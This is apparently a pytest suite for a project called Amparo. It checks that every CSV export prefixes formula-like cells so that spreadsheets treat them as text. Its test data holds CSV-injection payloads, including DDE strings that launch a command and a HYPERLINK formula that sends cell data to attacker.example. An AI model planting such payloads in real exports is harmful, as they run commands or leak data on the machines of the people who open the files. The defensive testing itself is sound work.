"""CSV exports are safe to open in a spreadsheet: cells that a spreadsheet would evaluate as a
formula (OWASP CSV injection) are written as text, in every CSV Amparo writes; real negative
numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest

from amparo.demo.hashset import write_hash_set
from amparo.demo.truth import HashSetEntry
from amparo.export.requests import _write_csv, build_legal_requests, export_legal_requests
from amparo.export.stats import build_stats, stats_csv
from amparo.formats.spreadsheet_safe import neutralised
from amparo.formats.subscriber_csv import write_subscriber_csv
from amparo.workspace import Workspace
from tests.test_subscribers import Ev, seed

SRC = Path(__file__).resolve().parents[1] / "src" / "amparo"
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "-",
    "+34600111222",
]


def formula_like(cell: str) -> bool:
    """What a spreadsheet would evaluate: a leading formula character, unless a plain number."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(
        r"-\d+(\.\d+)?", cell
    )


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_are_quoted_as_text(value: str) -> None:
    assert neutralised(value) == "'" + value


@pytest.mark.parametrize("value", ["-12", "-0.5", "-3e4", -7, 2.5, "12", "Ana", "", None])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert neutralised(value) == value


def test_every_csv_writer_goes_through_the_one_helper() -> None:
    """No module but the helper builds a csv.writer or csv.DictWriter of its own."""
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path.name != "spreadsheet_safe.py"
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_legal_request_csv_neutralises_hostile_cells(workspace: Workspace, tmp_path: Path) -> None:
    """The provider's name is hostile; the triple's cells are made hostile too (addresses are
    validated upstream today; the writer must not rely on it)."""
    when = datetime(2024, 7, 1, 10, tzinfo=UTC)
    with workspace.session() as session:
        seed(session, [Ev("79.116.10.20", 80, when, organisation=HOSTILE[0], asn=None)])
        [request] = build_legal_requests(session)
    out = tmp_path / "requests"
    export_legal_requests(workspace, out)
    [written_csv] = out.glob("*.csv")
    assert not [cell for cell in cells(written_csv.read_text("utf-8")) if formula_like(cell)]
    line = replace(request.lines[0], ip="=1+1")
    hostile = replace(request, lines=(line,))
    _write_csv(tmp_path / "hostile.csv", hostile)
    written = cells((tmp_path / "hostile.csv").read_text("utf-8"))
    assert "'=1+1" in written
    assert not [cell for cell in written if formula_like(cell)]


def test_stats_csv_neutralises_hostile_names(workspace: Workspace) -> None:
    with workspace.session() as session:
        stats = build_stats(session)
    stats["by_subdivision"] = {"ES-X": 2, "ES-Y": -1}
    stats["names"]["subdivisions"] = {"ES-X": "=cmd|' /C calc'!A0", "ES-Y": "@evil"}
    written = cells(stats_csv(stats))
    assert "'=cmd|' /C calc'!A0" in written and "'@evil" in written and "-1" in written
    assert not [cell for cell in written if formula_like(cell)]


def test_subscriber_csv_neutralises_hostile_cells(tmp_path: Path) -> None:
    out = tmp_path / "answers.csv"
    row = {"ip": "1.2.3.4", "port": -1, "isp": HOSTILE[0], "subscriber_name": HOSTILE[3],
           "address": HOSTILE[2], "municipality": HOSTILE[4], "postal_code": "-08001"}  # fmt: skip
    write_subscriber_csv(out, [row])
    written = cells(out.read_text("utf-8"))
    assert "'" + HOSTILE[0] in written and "-1" in written and "-08001" in written
    assert not [cell for cell in written if formula_like(cell)]


def test_generated_hash_set_csv_neutralises_hostile_series(tmp_path: Path) -> None:
    entry = HashSetEntry("a" * 32, "b" * 40, "c" * 64, "d" * 64, "us", "1", HOSTILE[6])
    written = cells(write_hash_set(tmp_path / "set.csv", [entry]).read_text("utf-8"))
    assert "'" + HOSTILE[6] in written
    assert not [cell for cell in written if formula_like(cell)]
